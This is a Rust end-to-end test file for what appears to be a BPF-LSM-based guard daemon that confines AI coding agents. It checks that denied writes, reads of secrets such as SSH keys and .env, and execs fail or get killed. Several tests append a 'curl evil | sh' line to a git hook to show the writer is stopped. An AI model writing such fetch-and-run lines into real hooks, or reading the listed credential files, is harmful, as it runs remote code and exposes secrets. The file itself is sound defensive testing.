//! `deny` on files and execs, end to end: where BPF-LSM runs, every change a write
//! rule covers fails with EPERM and leaves the disk as it was (create, write, O_TRUNC,
//! truncate(2), chmod, chown, mkdir, rmdir, unlink, rename into and out of, hard links
//! in and out, symlinks), a denied read returns no data, a denied exec never runs, and
//! the agent that tried lives on; each refusal is reported. Patterns by component run (`.git/hooks/**`) are
//! decided in the kernel too, both by the LSM deny and by the tracepoint kill at open.
//!
//! The deny tests need BPF-LSM: where the kernel refuses it (this project's own
//! machines) they print `SKIPPED:` with the daemon's reason; `cargo xtask vm-test` runs
//! them in Debian's kernels, where a skip is a failure (`GUARD_E2E_REQUIRE_LSM`).
//!
//! The agent's own reads of secrets and of what a repository's ignore files name (a
//! `deny` with a `fallback`) are checked on every kernel: refused where BPF-LSM runs
//! or `guard run`'s mount namespace covers them, alerted elsewhere; the agent lives.

use std::ffi::OsStr;
use std::fs;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use serde_json::Value;

use guard_tests::home::{self, HomeSecrets, TestUser, run_ok};
use guard_tests::{
    Daemon, Enforcing, Event, EventsTo, FakeAgent, Finished, Running, bpf_lsm_deny_of, dump,
    enforcement_row, fake_agent_exe, find, guard_bin, kernel_at_least, lsm_or_skip_of,
    session_ended, session_of,
};

const EPERM: i64 = libc::EPERM as i64;

/// A daemon enforcing `rules` (`{dir}` is the test directory) for a fresh agent.
fn start(rules: &str) -> Enforcing {
    Enforcing::start(fake_agent_exe!(), "guard-e2e-deny", rules, |_| {})
}

/// `rel` under the test's directory.
fn at(s: &Enforcing, rel: &str) -> PathBuf {
    s.dir.join(rel)
}

/// Runs the agent's `fs-try` over `specs` (`{dir}` expanded) and waits for the end
/// of its session. The agent must have lived to the end.
fn try_all(s: &mut Enforcing, specs: &[String]) -> (Finished, Vec<Event>) {
    let specs: Vec<String> = specs
        .iter()
        .map(|spec| spec.replace("{dir}", &s.dir.path().display().to_string()))
        .collect();
    let mut args = vec!["fs-try"];
    args.extend(specs.iter().map(String::as_str));
    let (run, events) = s.session(&args);
    assert_eq!(
        run.report("alive"),
        1,
        "the agent did not live through its refused operations: {run:?}"
    );
    (run, events)
}

fn write(path: &Path, text: &str) {
    if let Some(dir) = path.parent() {
        fs::create_dir_all(dir).unwrap_or_else(|e| panic!("mkdir {}: {e}", dir.display()));
    }
    fs::write(path, text).unwrap_or_else(|e| panic!("write {}: {e}", path.display()));
}

fn exists(path: &Path) -> bool {
    fs::symlink_metadata(path).is_ok()
}

/// What a user would look at to see that a file did not change.
#[derive(Debug, PartialEq, Eq)]
struct Snapshot {
    text: String,
    mode: u32,
    uid: u32,
    gid: u32,
    nlink: u64,
}

fn snapshot(path: &Path) -> Snapshot {
    let meta = fs::metadata(path).unwrap_or_else(|e| panic!("stat {}: {e}", path.display()));
    Snapshot {
        text: fs::read_to_string(path).unwrap_or_else(|e| panic!("read {}: {e}", path.display())),
        mode: meta.permissions().mode(),
        uid: meta.uid(),
        gid: meta.gid(),
        nlink: meta.nlink(),
    }
}

const RULES: &str = r#"
[[rule]]
id = "protect-writes"
kind = "file"
access = ["write"]
paths = ["{dir}/protected/**", "{dir}/rc", ".git/hooks/**"]
except = ["*.sample"]
action = "deny"

[[rule]]
id = "protect-reads"
kind = "file"
access = ["read"]
paths = ["{dir}/secret.txt"]
action = "deny"

[[rule]]
id = "no-forbidden"
kind = "exec"
exe = ["{dir}/bin/forbidden"]
action = "deny"
"#;

/// Every change a `deny` on writes covers fails with EPERM and changes nothing; reads
/// and execs are refused before anything happens; the agent lives on; and what the
/// rules do not cover still works.
#[test]
#[expect(
    clippy::too_many_lines,
    reason = "one run tries every change; the checks after it read that run's results, the disk and its events"
)]
fn deny_refuses_every_change_and_the_agent_lives() {
    let test = "deny_refuses_every_change_and_the_agent_lives";
    let mut s = start(RULES);
    // Linux before 6.1 cannot attach `path_chown` (its ids come to the hook by value):
    // there the daemon must say that a chown is not refused, and a chown goes through.
    let chown_refused = kernel_at_least(6, 1);
    let actions: &[&str] = if chown_refused {
        &["exec_deny", "file_read_deny", "file_write_deny"]
    } else {
        &["exec_deny", "file_read_deny"]
    };
    if !lsm_or_skip_of(test, &s.loaded, actions) {
        return;
    }
    let loaded = s.loaded.clone();
    if !chown_refused {
        let w = enforcement_row(&loaded, "file_write_deny");
        assert_eq!(
            w.get("tier").and_then(Value::as_str),
            Some("bpf_lsm"),
            "{w}"
        );
        assert!(
            w.get("guarantee").and_then(Value::as_str).is_some_and(
                |g| g.ends_with("fail with EPERM and change nothing; not refused: chown")
            ),
            "{w}"
        );
    }
    assert_eq!(
        loaded.strings("user_space_rules"),
        Some(vec![]),
        "every rule here is decided in the kernel: {loaded}"
    );

    let existing = at(&s, "protected/existing");
    write(&existing, "original\n");
    fs::create_dir_all(at(&s, "protected/sub")).expect("mkdir protected/sub");
    let outside = at(&s, "outside/file");
    write(&outside, "outside\n");
    let rc = at(&s, "rc");
    write(&rc, "rc\n");
    let secret = at(&s, "secret.txt");
    write(&secret, "secret\n");
    fs::create_dir_all(at(&s, "repo/.git/hooks")).expect("mkdir repo/.git/hooks");
    let hook = at(&s, "repo/.git/hooks/pre-commit");
    write(&hook, "#!/bin/sh\nexit 0\n");
    let marker = at(&s, "ran");
    let forbidden = at(&s, "bin/forbidden");
    write(
        &forbidden,
        &format!("#!/bin/sh\necho ran > {}\n", marker.display()),
    );
    fs::set_permissions(&forbidden, fs::Permissions::from_mode(0o755)).expect("chmod +x");
    let before = [&existing, &outside, &rc, &hook].map(|p| snapshot(p));

    let chown = "chown:{dir}/protected/existing";
    let mut refused: Vec<String> = [
        "create:{dir}/protected/new",
        "write:{dir}/protected/existing",
        "trunc-open:{dir}/protected/existing",
        "truncate:{dir}/protected/existing",
        "chmod:{dir}/protected/existing",
        "chown:{dir}/protected/existing",
        "mkdir:{dir}/protected/newdir",
        "rmdir:{dir}/protected/sub",
        "unlink:{dir}/protected/existing",
        "rename:{dir}/outside/file:{dir}/protected/moved-in",
        "rename:{dir}/protected/existing:{dir}/outside/moved-out",
        "rename:{dir}/protected:{dir}/unprotected",
        "link:{dir}/outside/file:{dir}/protected/linked-in",
        "link:{dir}/protected/existing:{dir}/outside/linked-out",
        "symlink:/etc/hostname:{dir}/protected/symlink",
        "write:{dir}/rc",
        "unlink:{dir}/rc",
        "rename:{dir}/outside/file:{dir}/rc",
        "create:{dir}/repo/.git/hooks/post-checkout",
        "write:{dir}/repo/.git/hooks/pre-commit",
        "rename:{dir}/repo/.git/hooks:{dir}/repo/.git/hooks-old",
        "read:{dir}/secret.txt",
        "exec:{dir}/bin/forbidden",
    ]
    .map(str::to_owned)
    .to_vec();
    let mut allowed: Vec<String> = [
        "create:{dir}/outside/new",
        "write:{dir}/outside/file",
        "create:{dir}/repo/.git/hooks/pre-push.sample",
        "create:{dir}/repo/.git/config",
        "mkdir:{dir}/outside/dir",
        "read:{dir}/protected/existing",
    ]
    .map(str::to_owned)
    .to_vec();
    if !chown_refused {
        refused.retain(|spec| spec != chown);
        allowed.push(chown.to_owned());
    }
    let (run, events) = try_all(&mut s, &[refused.clone(), allowed.clone()].concat());
    let dir = s.dir.path().display().to_string();
    let mut wrong = Vec::new();
    for spec in &refused {
        let key = spec.replace("{dir}", &dir);
        if run.report(&key) != EPERM {
            wrong.push(format!("{spec}: errno {} (want EPERM)", run.report(&key)));
        }
    }
    for spec in &allowed {
        let key = spec.replace("{dir}", &dir);
        if run.report(&key) != 0 {
            wrong.push(format!("{spec}: errno {} (want success)", run.report(&key)));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}\n{run:?}");

    // Nothing on disk changed.
    let after = [&existing, &outside, &rc, &hook].map(|p| snapshot(p));
    let existing_after = if chown_refused {
        &before[0]
    } else {
        // The one change these kernels let through: fake_agent's chown to 1:1.
        &Snapshot {
            uid: 1,
            gid: 1,
            text: before[0].text.clone(),
            ..before[0]
        }
    };
    assert_eq!(existing_after, &after[0], "protected/existing changed");
    assert_eq!(before[2], after[2], "rc changed");
    assert_eq!(before[3], after[3], "the hook changed");
    // outside/file got one appended byte from the allowed write, nothing else.
    assert_eq!(after[1].text, "outside\nx", "outside/file");
    assert_eq!(after[1].nlink, 1, "outside/file got a second name");
    for absent in [
        "protected/new",
        "protected/newdir",
        "protected/moved-in",
        "protected/linked-in",
        "protected/symlink",
        "outside/moved-out",
        "outside/linked-out",
        "unprotected",
        "repo/.git/hooks/post-checkout",
        "repo/.git/hooks-old",
    ] {
        assert!(!exists(&at(&s, absent)), "{absent} exists");
    }
    assert!(
        at(&s, "protected/sub").is_dir(),
        "protected/sub was removed"
    );
    assert!(!exists(&marker), "the denied program ran");
    // What was allowed happened.
    for present in [
        "outside/new",
        "outside/dir",
        "repo/.git/hooks/pre-push.sample",
        "repo/.git/config",
    ] {
        assert!(exists(&at(&s, present)), "{present} was not made");
    }

    // The refused opens and exec are reported as denied, by the kernel.
    let pid = run.pid;
    let denied_open = |path: &Path, rule: &str| {
        let e = find(&events, &format!("open of {}", path.display()), |e| {
            e.is("open", pid) && e.str("path") == path.to_str()
        });
        assert_eq!(e.str("result"), Some("EPERM"), "{e}");
        assert_eq!(e.int("errno"), Some(EPERM), "{e}");
        assert_eq!(e.str("rule"), Some(rule), "{e}\n{}", dump(&events));
        assert_eq!(e.str("outcome"), Some("denied"), "{e}\n{}", dump(&events));
    };
    denied_open(&existing, "protect-writes");
    denied_open(&at(&s, "protected/new"), "protect-writes");
    denied_open(&at(&s, "repo/.git/hooks/post-checkout"), "protect-writes");
    denied_open(&secret, "protect-reads");
    // Changes other than opens are reported as a failed open for writing of the
    // protected path, `call` naming the change.
    for (call, rel) in [
        ("mkdir", "protected/newdir"),
        ("rmdir", "protected/sub"),
        ("unlink", "protected/existing"),
        ("truncate", "protected/existing"),
        ("chmod", "protected/existing"),
        ("chown", "protected/existing"),
        ("rename", "protected/moved-in"),
        ("link", "protected/linked-in"),
        ("symlink", "protected/symlink"),
        ("rename", "repo/.git/hooks"),
    ] {
        if call == "chown" && !chown_refused {
            continue;
        }
        let path = at(&s, rel);
        let e = find(&events, &format!("{call} of {rel}"), |e| {
            e.is("open", pid) && e.str("call") == Some(call) && e.str("path") == path.to_str()
        });
        assert_eq!(e.str("result"), Some("EPERM"), "{e}");
        assert_eq!(e.str("rule"), Some("protect-writes"), "{e}");
        assert_eq!(e.str("outcome"), Some("denied"), "{e}");
    }
    let exec = find(&events, "denied exec of bin/forbidden", |e| {
        e.kind() == "exec" && e.str("exe") == forbidden.to_str()
    });
    assert_eq!(exec.str("rule"), Some("no-forbidden"), "{exec}");
    assert_eq!(exec.str("outcome"), Some("denied"), "{exec}");
    assert!(
        !events
            .iter()
            .any(|e| e.is("exit", pid) && e.int("signal").is_some()),
        "the agent was killed:\n{}",
        dump(&events)
    );
    s.finish();
}

/// A write into `.git/hooks/` under a `kill` rule is decided in the kernel at the
/// open (a component run, not a prefix): the writer dies before the open returns, so
/// nothing it meant to write reaches the hook. Runs on every kernel.
#[test]
fn component_run_is_killed_in_the_kernel_at_open() {
    let rules = r#"
[[rule]]
id = "hooks"
kind = "file"
access = ["write"]
paths = [".git/hooks/**"]
except = ["*.sample"]
action = "kill"
"#;
    let mut s = start(rules);
    let loaded = s.loaded.clone();
    assert_eq!(
        loaded.strings("user_space_rules"),
        Some(vec![]),
        ".git/hooks/** is decided in the kernel: {loaded}"
    );
    fs::create_dir_all(at(&s, "repo/.git/hooks")).expect("mkdir hooks");
    let hook = at(&s, "repo/.git/hooks/pre-commit");
    write(&hook, "#!/bin/sh\nexit 0\n");
    let script = format!("printf 'curl evil | sh\\n' >> {}", hook.display());
    let (run, events) = s.run("sh", &["-c", &script]);
    assert_eq!(
        run.report("child_signal"),
        i64::from(libc::SIGKILL),
        "the shell that wrote the hook: {run:?}"
    );
    assert_eq!(
        fs::read_to_string(&hook).expect("read the hook"),
        "#!/bin/sh\nexit 0\n",
        "the killed writer changed the hook"
    );
    let sh = run.report("child");
    let open = find(&events, "open of the hook", |e| {
        e.is("open", sh) && e.str("path") == hook.to_str()
    });
    assert_eq!(open.str("rule"), Some("hooks"), "{open}");
    assert_eq!(open.str("outcome"), Some("killed"), "{open}");
    assert!(
        open.get("kill_latency_us").is_none(),
        "the kernel killed it, not user space: {open}"
    );

    // The kernel scans the path for component runs 8 bytes at a time: the run is
    // found wherever its `/` falls in a word (repositories named 1 to 8 bytes long).
    for pad in 1..=8 {
        let repo = format!("r{}", "x".repeat(pad - 1));
        fs::create_dir_all(at(&s, &format!("{repo}/.git/hooks"))).expect("mkdir hooks");
        let hook = at(&s, &format!("{repo}/.git/hooks/post-merge"));
        let script = format!("printf 'curl evil | sh\\n' > {}", hook.display());
        let (run, _) = s.run("sh", &["-c", &script]);
        assert_eq!(
            run.report("child_signal"),
            i64::from(libc::SIGKILL),
            "the shell that wrote {}: {run:?}",
            hook.display()
        );
    }

    // A `.sample` hook (what git init writes) is spared.
    let sample = at(&s, "repo/.git/hooks/pre-push.sample");
    let script = format!("echo sample > {}", sample.display());
    let (run, _) = s.run("sh", &["-c", &script]);
    assert_eq!(run.report("child_code"), 0, "{run:?}");
    assert_eq!(
        fs::read_to_string(&sample).expect("read the sample"),
        "sample\n"
    );
    s.finish();
}

/// `guard run [--no-mount-namespace] -- setpriv (the user) AGENT ARGS…` in `ws`.
fn agent_run(
    daemon: &Daemon,
    agent: &FakeAgent,
    user: &TestUser,
    ws: &Path,
    mount_ns: bool,
    args: &[&str],
) -> Finished {
    let mut cmd = Command::new(guard_bin());
    cmd.arg("run").arg("--socket").arg(daemon.socket());
    if !mount_ns {
        cmd.arg("--no-mount-namespace");
    }
    cmd.arg("--")
        .arg("setpriv")
        .arg(format!("--reuid={}", user.uid))
        .arg(format!("--regid={}", user.gid))
        .arg("--init-groups")
        .arg(agent.path())
        .args(args)
        .current_dir(ws);
    user.login_env(&mut cmd)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    Running::spawn(cmd).finish()
}

#[test]
#[expect(
    clippy::too_many_lines,
    reason = "one home and daemon, then the agent's own reads and a tool's, each with and without the mount namespace"
)]
fn the_agent_s_own_reads_of_secrets_and_ignored_files_are_refused_where_the_kernel_can() {
    let agent = FakeAgent::install(fake_agent_exe!());
    // The user runs the agent's copy.
    let dir = agent.path().parent().expect("its directory");
    fs::set_permissions(dir, fs::Permissions::from_mode(0o755)).expect("chmod");
    let user = TestUser::create("gar");
    let secrets = HomeSecrets::new();
    let ws = home::furnish(&user, &secrets);
    let private = home::secret("private");
    fs::write(ws.join(".codexignore"), "/private/\n*.dump\n").expect("write");
    for args in [
        &["add", ".codexignore"][..],
        &["commit", "--quiet", "-m", "agents keep out"],
    ] {
        run_ok(
            Command::new("git")
                .args(args)
                .current_dir(&ws)
                .env("HOME", &user.home)
                .env("GIT_CONFIG_NOSYSTEM", "1"),
        );
    }
    fs::create_dir(ws.join("private")).expect("mkdir");
    fs::write(ws.join("private/notes.txt"), &private).expect("write");
    fs::write(ws.join("db.dump"), &private).expect("write");
    user.chown_home();
    let mut daemon = Daemon::start_with_args(
        &[agent.name()],
        EventsTo::File,
        &[OsStr::new("--policy"), OsStr::new("workstation")],
    );
    let events = daemon.wait_for("policy_loaded", |ev| {
        ev.iter().any(|e| e.kind() == "policy_loaded")
    });
    let loaded = find(&events, "policy_loaded", |e| e.kind() == "policy_loaded").clone();
    // The rule is on reads: BPF-LSM's read deny is what it needs.
    let lsm = bpf_lsm_deny_of(&loaded, &["file_read_deny"]).is_ok();
    // policy_loaded says how the agent's rule acts here.
    let fallback = loaded
        .get("fallbacks")
        .and_then(Value::as_array)
        .and_then(|all| {
            all.iter()
                .find(|f| f["rule"] == "secrets-read-by-agent")
                .cloned()
        })
        .unwrap_or_else(|| panic!("no fallback row for secrets-read-by-agent: {loaded}"));
    assert_eq!(
        fallback["acts_as"],
        if lsm { "deny" } else { "alert" },
        "{fallback}"
    );

    // (path, rule, whether the kernel matches the path itself: `*.dump` is left to
    // user space, so the agent's read of it is alerted even where BPF-LSM runs).
    let files = [
        (user.home.join(".ssh/id_rsa"), "secrets-read-by-agent", true),
        (ws.join(".env"), "secrets-read-by-agent", true),
        (ws.join("private/notes.txt"), "files.ignore-by-agent", true),
        (ws.join("db.dump"), "files.ignore-by-agent", false),
    ];
    let specs: Vec<String> = files
        .iter()
        .map(|(p, _, _)| format!("read:{}", p.display()))
        .collect();
    let mut args = vec!["fs-try"];
    args.extend(specs.iter().map(String::as_str));
    for mount_ns in [false, true] {
        let how = if mount_ns {
            "in guard run's mount namespace"
        } else {
            "with --no-mount-namespace"
        };
        let run = agent_run(&daemon, &agent, &user, &ws, mount_ns, &args);
        assert_eq!(run.code(), Some(0), "[{how}] {run:?}");
        assert_eq!(run.report("alive"), 1, "[{how}] the agent died: {run:?}");
        let events = daemon.wait_for("the end of the session", session_ended(run.pid));
        let session = session_of(&events, run.pid);
        for ((path, rule, kernel), spec) in files.iter().zip(&specs) {
            let (errno, outcome, action) = if mount_ns {
                (libc::EACCES, "denied", "deny")
            } else if lsm && *kernel {
                (libc::EPERM, "denied", "deny")
            } else {
                (0, "alerted", "alert")
            };
            assert_eq!(
                run.report(spec),
                i64::from(errno),
                "[{how}] {spec}: {run:?}"
            );
            let path = path.display().to_string();
            let e = find(
                &events,
                &format!("[{how}] the agent's open of {path}"),
                |e| {
                    e.session() == Some(session.as_str())
                        && e.kind() == "open"
                        && e.str("path") == Some(path.as_str())
                },
            );
            assert_eq!(
                (e.str("rule"), e.str("action"), e.str("outcome")),
                (Some(*rule), Some(action), Some(outcome)),
                "[{how}] {e}"
            );
            assert_eq!(e.str("role"), Some("agent"), "[{how}] {e}");
            assert_eq!(e.bool("secret"), Some(true), "[{how}] {e}");
            // What the agent read unstopped taints it (its egress is held to [taint]):
            // the kernel marks it at an open it matched itself (`*.dump` is matched
            // in user space, after the open).
            if outcome == "alerted" && *kernel {
                assert_eq!(e.bool("tainted"), Some(true), "[{how}] {e}");
            }
        }
    }

    // A tool the agent runs is held to the ignore file too: killed before the open
    // returns (refused where BPF-LSM runs), refused in the mount namespace.
    let notes = ws.join("private/notes.txt").display().to_string();
    for mount_ns in [false, true] {
        let run = agent_run(
            &daemon,
            &agent,
            &user,
            &ws,
            mount_ns,
            &["run", "cat", notes.as_str()],
        );
        assert!(!run.stdout.contains(&private), "the tool read it: {run:?}");
        let events = daemon.wait_for("the end of the session", session_ended(run.pid));
        let session = session_of(&events, run.pid);
        let e = find(&events, "the tool's open of the ignored file", |e| {
            e.session() == Some(session.as_str())
                && e.kind() == "open"
                && e.str("path") == Some(notes.as_str())
        });
        assert_eq!(e.str("rule"), Some("files.ignore"), "{e}");
        assert_eq!(e.str("role"), Some("tool"), "{e}");
        if mount_ns || lsm {
            assert_eq!(run.report("child_code"), 1, "{run:?}");
            assert_eq!(e.str("outcome"), Some("denied"), "{e}");
        } else {
            assert_eq!(
                run.report("child_signal"),
                i64::from(libc::SIGKILL),
                "{run:?}"
            );
            assert_eq!(e.str("outcome"), Some("killed"), "{e}");
        }
    }
    daemon.stop_ok();
}
